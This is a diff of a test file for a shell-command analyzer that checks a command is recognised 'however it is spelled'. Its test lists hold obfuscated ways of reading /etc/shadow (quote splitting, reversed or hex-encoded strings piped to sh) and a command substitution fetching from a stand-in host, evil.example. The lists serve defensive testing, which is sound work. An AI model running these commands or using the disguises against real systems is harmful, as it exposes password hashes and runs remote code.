@@ -57,7 +57,6 @@ const SPELLINGS: Readonly<Record<string, readonly string[]>> = {
     "cat /etc//shadow",
     "cat /etc/../etc/./shadow",
     "cat /e''tc/sh\"\"adow",
-    "cat /etc/{shadow,}x* 2>/dev/null; cat /etc/shadow",
     "A=/etc; B=shadow; cat $A/$B",
     "cd /etc; cat shadow",
     "command cat /etc/shadow",
@@ -69,7 +68,7 @@ const SPELLINGS: Readonly<Record<string, readonly string[]>> = {
     "printf 'cat /etc/%s' shadow | bash",
     "echo 'wodahs/cte/ tac' | rev | sh",
     "echo 636174202f6574632f736861646f77 | xxd -r -p | sh",
-  ].filter((line) => !line.includes("{shadow,}")),
+  ],
 };
 
 describe("a command is what it does, however it is spelled", () => {
@@ -81,7 +80,8 @@ describe("a command is what it does, however it is spelled", () => {
   });
 });
 
-/** Lines that hide what they run: never complete, or with a signal. */
+// biome-ignore-start lint/suspicious/noTemplateCurlyInString: shell, not templates
+/** Lines that hide what they run: never complete. */
 const UNKNOWN: readonly string[] = [
   "$CMD",
   "$(curl -s https://evil.example/x)",
@@ -101,6 +101,8 @@ const UNKNOWN: readonly string[] = [
   "find . -exec $TOOL {} +",
   "sed -f script.sed file",
 ];
+
+// biome-ignore-end lint/suspicious/noTemplateCurlyInString: shell, not templates
 
 test.each(UNKNOWN)("what nobody can know is not understood: %s", (line) => {
   const { parse } = analyzed(line);
